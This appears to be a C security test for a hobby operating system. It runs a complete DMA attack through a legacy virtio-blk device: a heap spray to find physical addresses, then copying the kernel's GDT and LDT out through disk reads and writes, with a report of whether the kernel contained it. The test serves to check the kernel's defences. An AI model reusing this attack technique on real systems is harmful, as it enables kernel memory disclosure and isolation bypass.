/* a_dmavirtio: the outside review's attack, for real.  A driver app
 * (drivers=a_dmavirtio) asks for the I/O BAR of a legacy virtio-blk disk (QEMU
 * -drive if=virtio on -M pc: 1af4:1001, an I/O BAR), builds a virtqueue in its
 * heap, makes the disk read the GDT's frame (SGDT minus KERNEL_BASE) and write
 * it to the disk, reads it back into its own memory, then the LDT the same
 * way, finds DSOS in the copies and loads it.
 *
 * The queue must be given by physical address, which an app does not know.
 * The heap is sprayed over most of free memory with one template per page
 * (descriptors, the avail ring's head and the used ring's first entry fit in
 * the same bytes of every page), then the queue is put at a physical address
 * in the middle of RAM: it lands in some page of the spray, the device runs
 * the request it finds there, and the page the used ring was written into
 * says which one -- from then on the app knows the frames of its pages.
 *
 * Two tries: first as a driver that never writes status ACK|DRIVER (3), then
 * with the usual status sequence, on which QEMU's legacy virtio sets the
 * bus-master-enable bit itself (hw/virtio/virtio-pci.c: "Linux before 2.6.34
 * drives the device without enabling the PCI device bus master bit").  Under
 * QEMU 7.2 the first try already succeeds with the bit off: without
 * iommu_platform a virtio device's DMA goes straight to guest memory
 * (hw/virtio/virtio-bus.c: dma_as = &address_space_memory), whatever the
 * command register says.  That is why the port rule does not rest on the bit.
 *
 * Default: ioperm is refused (naming the device) and the port raises #GP:
 *     ATTACK name=dmavirtio ports=refused ... result=contained
 * With dma=nobar (test kernel) the ports are granted: BREACH, as the review found. */
#include "dmaleak.h"

#define VIO_QSIZE   0x0C
#define VIO_QSEL    0x0E
#define VIO_PFN     0x08
#define VIO_GFEAT   0x04
#define VIO_NOTIFY  0x10
#define VIO_STATUS  0x12

#define HEAD   32                       /* the request's first descriptor */
#define HDR    3072                     /* in every page: request header, status, data */
#define STAT   3088
#define DATA   3584
#define SENTINEL 0xDEADBEEFu            /* used ring entry 0's length until the device writes it */

static uint16_t io;
static uint32_t qnum, avail_off, used_off;

struct vdesc {
    uint32_t addr, addr_hi, len;
    uint16_t flags, next;
};

/* One page of the spray, as if it lay at phys: the avail ring's head (flags
 * 0, idx 1, ring[0] = HEAD) and the used ring's first entry line up in the
 * same bytes of every page, so any three pages in a row form a queue. */
static void template(uint8_t *pg, uint32_t phys, uint32_t type, uint32_t sector)
{
    uint16_t *avail = (uint16_t *)(pg + avail_off % 4096);
    avail[0] = 0;
    avail[1] = 1;
    avail[2] = HEAD;
    *(uint32_t *)(pg + 8) = SENTINEL;   /* used->ring[0].len, if this page is the used ring */
    struct vdesc *d = (struct vdesc *)(pg + 16 * HEAD % 4096);
    d[0] = (struct vdesc){ phys + HDR, 0, 16, 1, HEAD + 1 };
    d[1] = (struct vdesc){ phys + DATA, 0, 512, 1 | 2, HEAD + 2 };
    d[2] = (struct vdesc){ phys + STAT, 0, 1, 2, 0 };
    uint32_t *h = (uint32_t *)(pg + HDR);
    h[0] = type;                        /* 0 read (IN), 1 write (OUT) */
    h[1] = 0;
    h[2] = sector;
    h[3] = 0;
    pg[STAT] = 0xFF;
}

static void vio_setup(uint32_t queue_phys, int quirk)
{
    outb_(io + VIO_STATUS, 0);                          /* reset */
    outb_(io + VIO_STATUS, 1);                          /* ACKNOWLEDGE */
    if (quirk)
        outb_(io + VIO_STATUS, 3);                      /* ACK|DRIVER: QEMU sets BME */
    outl_(io + VIO_GFEAT, 0);
    outw_(io + VIO_QSEL, 0);
    outl_(io + VIO_PFN, queue_phys >> 12);
    outb_(io + VIO_STATUS, quirk ? 7 : 5);              /* ... DRIVER_OK */
}

/* Wait until one of the spray's pages shows the used ring written; its
 * index, or -1 after `ticks'. */
static int wait_used(int ticks)
{
    for (int t = uptime(); uptime() - t < ticks;) {
        for (uint32_t i = 0; i < spray_pages; i++)
            if (*(volatile uint32_t *)(spray + i * 4096 + 8) != SENTINEL)
                return i;
        yield();
    }
    return -1;
}

/* Locate: the queue at guess X; returns the phys of spray page 0's frame
 * (assuming the pages of a 4 MiB run lie in a row, as they are handed out),
 * or 0 if the device moved nothing. */
static uint32_t qpage, qphys;
static uint32_t locate(uint32_t x, int quirk)
{
    uint32_t j0 = spray_pages / 2, g = x - j0 * 4096;   /* as if page j0 lay at x */
    for (uint32_t i = 0; i < spray_pages; i++)
        template(spray + i * 4096, g + i * 4096, 0, 0);
    vio_setup(x, quirk);
    outw_(io + VIO_NOTIFY, 0);
    int u = wait_used(100);
    if (u < 0)
        return 0;
    /* the used ring is used_off past the queue: the queue page is u - used_off/4096,
     * and its descriptors (written for g + j*4096) pointed into page m */
    qpage = u - used_off / 4096;
    qphys = x;
    uint32_t m = 0;
    for (uint32_t i = 0; i < spray_pages; i++)
        if (spray[i * 4096 + STAT] != 0xFF)
            m = i;
    printf("dmavirtio: the queue at phys %x is spray page %u; its request's buffers landed in "
           "page %u: spray page 0 at phys %x\n", x, qpage, m, x - qpage * 4096);
    return x - qpage * 4096;
}

/* One request through the located queue (pages qpage.. at qphys): the
 * header and status in the queue's first page, data at phys `data'. */
static uint16_t next_idx;
static int request(uint32_t type, uint32_t sector, uint32_t data, uint32_t len)
{
    uint8_t *q = spray + qpage * 4096;
    struct vdesc *d = (struct vdesc *)(q + 16 * HEAD % 4096);
    d[0] = (struct vdesc){ qphys + HDR, 0, 16, 1, HEAD + 1 };
    d[1] = (struct vdesc){ data, 0, len, type ? 1 : 1 | 2, HEAD + 2 };
    d[2] = (struct vdesc){ qphys + STAT, 0, 1, 2, 0 };
    uint32_t *h = (uint32_t *)(q + HDR);
    h[0] = type;
    h[2] = sector;
    q[STAT] = 0xFF;
    volatile uint16_t *avail = (uint16_t *)(spray + qpage * 4096 + avail_off);
    volatile uint16_t *used = (uint16_t *)(spray + qpage * 4096 + used_off);
    avail[2 + next_idx % qnum] = HEAD;
    avail[1] = ++next_idx;
    outw_(io + VIO_NOTIFY, 0);
    for (int t = uptime(); used[1] != next_idx; yield())
        if (uptime() - t > 200)
            return -1;
    return q[STAT];
}

/* Copy n bytes at phys src to the disk at sector, then into buf, 512 bytes
 * at a time through the queue page's data area. */
static int dma_copy(uint32_t src, uint32_t n, uint32_t sector, uint8_t *buf)
{
    if (request(1, sector, src, n) != 0)
        return -1;
    uint8_t *area = spray + qpage * 4096 + DATA;
    for (uint32_t off = 0; off < n; off += 512) {
        if (request(0, sector + off / 512, qphys + DATA, 512) != 0)
            return -1;
        memcpy(buf + off, area, 512);
    }
    return 0;
}

static const char *attack(int quirk)
{
    if (!locate(spray_guess(0), quirk)) {
        printf("dmavirtio: %s: the device moved nothing in 100 ticks\n",
               quirk ? "with status ACK|DRIVER" : "never writing status 3");
        return "nothing";
    }
    outb_(io + VIO_STATUS, 0);                          /* afresh, with the queue's place known */
    next_idx = 0;
    memset(spray + qpage * 4096 + avail_off, 0, 6);     /* the rings as a reset device sees them */
    memset(spray + qpage * 4096 + used_off, 0, 12);
    vio_setup(qphys, quirk);
    if (dma_copy(gdt_phys(), sizeof gdt_copy, 64, gdt_copy) < 0 || !gdt_plausible(gdt_copy))
        return "queue-only";
    int have_ldt = dma_copy(ldt_phys(gdt_copy), sizeof ldt_copy, 64 + 128, ldt_copy) == 0;
    return judge_copies("dmavirtio", have_ldt) ? "gdt,dsos" : "gdt";
}

int main(void)
{
    byst_join();
    probe_init();
    char line[256], bdf[8];
    uint32_t base = 0, size = 0;
    if (pci_load() < 0 || !pci_line("1af4:1001", line, sizeof line) ||
        !pci_iobar(line, 0, &base, &size)) {
        printf("ATTACK name=dmavirtio no legacy virtio-blk with an I/O BAR found result=ERROR\n");
        byst_leave();
        return 1;
    }
    pci_bdf(line, bdf);
    io = base;
    int r = KLOS_SVC(ioperm, base, size);
    printf("dmavirtio: virtio-blk %s, I/O BAR %x-%x; ioperm: %d\n", bdf, base, base + size - 1, r);
    if (r < 0) {
        const char *st = port_state(io + VIO_STATUS);
        int ok = r == -EBUSY && !strcmp(st, "#GP");
        printf("ATTACK name=dmavirtio ports=refused port_%x=%s result=%s\n", io + VIO_STATUS, st,
               ok ? "contained" : "BREACH");
        byst_leave();
        return !ok;
    }
    outw_(io + VIO_QSEL, 0);
    qnum = inw_(io + VIO_QSIZE);
    avail_off = 16 * qnum;
    used_off = (avail_off + 6 + 2 * qnum + 4095) & ~4095u;
    if (qnum < 4 || qnum > 1024 || spray_alloc() < 0) {
        printf("ATTACK name=dmavirtio queue size %u, or no memory to spray result=ERROR\n", qnum);
        byst_leave();
        return 1;
    }
    printf("dmavirtio: queue 0 has %u entries; %u pages sprayed\n", qnum, spray_pages);
    const char *p1 = attack(0), *p2 = "skipped";
    pci_load();
    char after[256];
    printf("dmavirtio: after the first try: %s\n", pci_line(bdf, after, sizeof after));
    if (strcmp(p1, "gdt,dsos")) {
        p2 = attack(1);
        pci_load();
        printf("dmavirtio: after status ACK|DRIVER: %s\n", pci_line(bdf, after, sizeof after));
    }
    outb_(io + VIO_STATUS, 0);
    spray_free();
    int breach = !strcmp(p1, "gdt,dsos") || !strcmp(p2, "gdt,dsos");
    printf("ATTACK name=dmavirtio ports=granted no_status3=%s status3=%s result=%s\n", p1, p2,
           breach ? "BREACH" : "contained");
    byst_leave();
    return 0;
}
